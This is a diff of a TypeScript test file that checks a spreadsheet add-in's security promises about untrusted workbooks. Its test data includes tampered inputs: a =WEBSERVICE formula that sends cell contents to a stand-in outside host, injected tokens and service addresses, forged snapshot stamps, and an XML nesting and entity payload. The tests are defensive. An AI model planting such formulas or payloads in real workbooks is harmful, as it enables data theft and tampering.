@@ -1,11 +1,11 @@
 import { existsSync, readFileSync } from 'node:fs';
 import { RollbackError } from '../../src/workbook/linked/journal';
-import { processorMillis } from '../support/processor-millis';
+import { measureProcessorMillis } from '../support/processor-millis';
 import {
-  pointedAt,
+  pointAtTable,
   withQuery,
   withId,
-  asSnapshot,
+  toSnapshot,
   withHashesOfTypedRows,
   handMadeSheet,
   openFile,
@@ -15,40 +15,42 @@ import {
 
 // The promises of SECURITY.md about untrusted workbooks, each with a test.
 
-const elsewhere = 'https://elsewhere.invalid';
-const page = readFileSync('SECURITY.md', 'utf8');
-const sections = new Map(page.split(/^## /m).map((text) => [text.split('\n')[0] ?? '', text]));
-const stated = [...(sections.get("A workbook can't") ?? '').matchAll(/^- (.+)$/gm)].map(([, promise = '']) => promise);
+const otherAddress = 'https://elsewhere.invalid';
+const securityPage = readFileSync('SECURITY.md', 'utf8');
+const sections = new Map(securityPage.split(/^## /m).map((text) => [text.split('\n')[0] ?? '', text]));
+const statedPromises = [...(sections.get("A workbook can't") ?? '').matchAll(/^- (.+)$/gm)].map(
+  ([, promise = '']) => promise,
+);
 
 type File = Awaited<ReturnType<typeof openFile>>;
 
 /** Replaces the parts of the file, and runs every action on the listed data ranges. */
-async function tryAll(file: File, parts: readonly string[]): Promise<void> {
+async function tryAllActions(file: File, parts: readonly string[]): Promise<void> {
   const { workbook, actions } = file;
   workbook.storedParts.clear();
   parts.forEach((xml, index) => workbook.storedParts.set(`{tampered ${index}}`, xml));
-  const refuse = (error: unknown) => {
+  const rethrowUnexpected = (error: unknown) => {
     if (!(error instanceof Error) || error instanceof RollbackError) throw error;
   };
-  await actions.refreshDataRanges('all').catch(refuse);
+  await actions.refreshDataRanges('all').catch(rethrowUnexpected);
   for (const { id } of await actions.listDataRanges()) {
-    await actions.refreshDataRanges([id]).catch(refuse);
-    await actions.convertDataRange(id, 'linked table').catch(refuse);
-    await actions.convertDataRange(id, 'formula').catch(refuse);
-    await actions.removeDataRange(id, false).catch(refuse);
+    await actions.refreshDataRanges([id]).catch(rethrowUnexpected);
+    await actions.convertDataRange(id, 'linked table').catch(rethrowUnexpected);
+    await actions.convertDataRange(id, 'formula').catch(rethrowUnexpected);
+    await actions.removeDataRange(id, false).catch(rethrowUnexpected);
   }
 }
 
-const changesNothing = (tamper: (validXml: string) => readonly string[]) => async () => {
+const expectNoChange = (tamper: (validXml: string) => readonly string[]) => async () => {
   const file = await openFile();
   const before = typedCells(file.workbook);
-  await tryAll(file, tamper(file.validXml));
+  await tryAllActions(file, tamper(file.validXml));
   expect(typedCells(file.workbook)).toEqual(before);
 };
 
-const entersNothing = (formula: string) => async () => {
+const expectNoEntry = (formula: string) => async () => {
   const file = await openFile();
-  await tryAll(file, [withQuery(file.validXml, formula)]);
+  await tryAllActions(file, [withQuery(file.validXml, formula)]);
   expect(file.workbook.entered).toEqual([]);
 };
 
@@ -56,33 +58,33 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   "send a request to an address that the user hasn't entered": async () => {
     const request = jest.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('offline'));
     const file = await openFile();
-    await tryAll(file, [
-      withElement(file.validXml, `<service>${elsewhere}</service>`),
-      withId(withQuery(file.validXml, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
+    await tryAllActions(file, [
+      withElement(file.validXml, `<service>${otherAddress}</service>`),
+      withId(withQuery(file.validXml, `=IDS.QUERY("${otherAddress}/v2","top=1")`), 'second'),
     ]);
     expect(request).not.toHaveBeenCalled();
     request.mockRestore();
   },
   'bring a token or a service address of its own': async () => {
     const file = await openFile();
-    await tryAll(file, [
-      withElement(file.validXml, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
+    await tryAllActions(file, [
+      withElement(file.validXml, `<service>${otherAddress}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
     ]);
     expect(JSON.stringify([file.workbook.entered, [...file.workbook.storedParts.values()]])).not.toMatch(
       /elsewhere|eyJ/,
     );
   },
-  'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
-  'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
-  "make a refresh overwrite rows that don't match what the add-in wrote": changesNothing((validXml) => [
-    pointedAt(validXml, handMadeSheet, 'Mine'),
+  'enter a formula other than one call of an IDS function': expectNoEntry(`=WEBSERVICE("${otherAddress}/?"&A1)`),
+  'enter a formula that refers to another file': expectNoEntry(`=IDS.POSITIONS('${otherAddress}/x.xlsx'!N,"last")`),
+  "make a refresh overwrite rows that don't match what the add-in wrote": expectNoChange((validXml) => [
+    pointAtTable(validXml, handMadeSheet, 'Mine'),
   ]),
-  'write into a table that was neither linked nor confirmed on this device': changesNothing((validXml) => [
+  'write into a table that was neither linked nor confirmed on this device': expectNoChange((validXml) => [
     validXml,
     withId(withHashesOfTypedRows(validXml), 'added'),
   ]),
-  'write values under the header of another column': changesNothing((validXml) => [
-    pointedAt(validXml, handMadeSheet, 'Mine').replace('header="Quantity"', 'header="Price"'),
+  'write values under the header of another column': expectNoChange((validXml) => [
+    pointAtTable(validXml, handMadeSheet, 'Mine').replace('header="Quantity"', 'header="Price"'),
   ]),
   'refresh one table through two definitions': async () => {
     const { workbook, actions, validXml } = await openFile();
@@ -93,15 +95,15 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
       expect.objectContaining({ state: 'failed', problem: expect.stringMatching(/second definition/) as string }),
     );
   },
-  'clear cells with a forged snapshot stamp': changesNothing((validXml) => [
-    asSnapshot(
-      pointedAt(validXml, handMadeSheet, 'Mine'),
+  'clear cells with a forged snapshot stamp': expectNoChange((validXml) => [
+    toSnapshot(
+      pointAtTable(validXml, handMadeSheet, 'Mine'),
       `<note sheet="${handMadeSheet}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
     ),
   ]),
   'convert or remove cells that someone typed over': async () => {
     const { workbook, actions } = await openFile();
-    const sheet = workbook.sheetAt('Sheet1');
+    const sheet = workbook.getSheet('Sheet1');
     sheet.set(2, 1, { ...sheet.get(2, 1), value: 999 });
     const [{ id = '' } = {}] = await actions.listDataRanges();
     await expect(actions.convertDataRange(id, 'formula')).rejects.toThrow(/have changed since the last refresh/);
@@ -126,7 +128,7 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     workbook.storedParts.set('{broken}', validXml.slice(0, 200));
     workbook.storedParts.set(
       '{other}',
-      withId(pointedAt(validXml, handMadeSheet, 'Mine'), 'other').replaceAll('header="', 'header="x'),
+      withId(pointAtTable(validXml, handMadeSheet, 'Mine'), 'other').replaceAll('header="', 'header="x'),
     );
     expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
     await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
@@ -136,17 +138,17 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     workbook.storedParts.set('{deep}', withElement(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
     workbook.storedParts.set('{wide}', withElement(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
     workbook.storedParts.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
-    expect(await processorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4))).toBeLessThan(
-      2_000,
-    );
+    expect(
+      await measureProcessorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4)),
+    ).toBeLessThan(2_000);
   },
 };
 
 test('every promise about workbooks has a test here, and every test has a promise', () => {
-  expect(Object.keys(promises).sort()).toEqual([...stated].sort());
+  expect(Object.keys(promises).sort()).toEqual([...statedPromises].sort());
 });
 
-test.each(Object.entries(promises))("a workbook can't %s", (_promise, holds) => holds());
+test.each(Object.entries(promises))("a workbook can't %s", (_promise, checkPromise) => checkPromise());
 
 test('every other promise names existing tests', () => {
   const rows = [...(sections.get('Other promises') ?? '').matchAll(/^\| [^|]+ \| (`[^|]+) \|$/gm)];
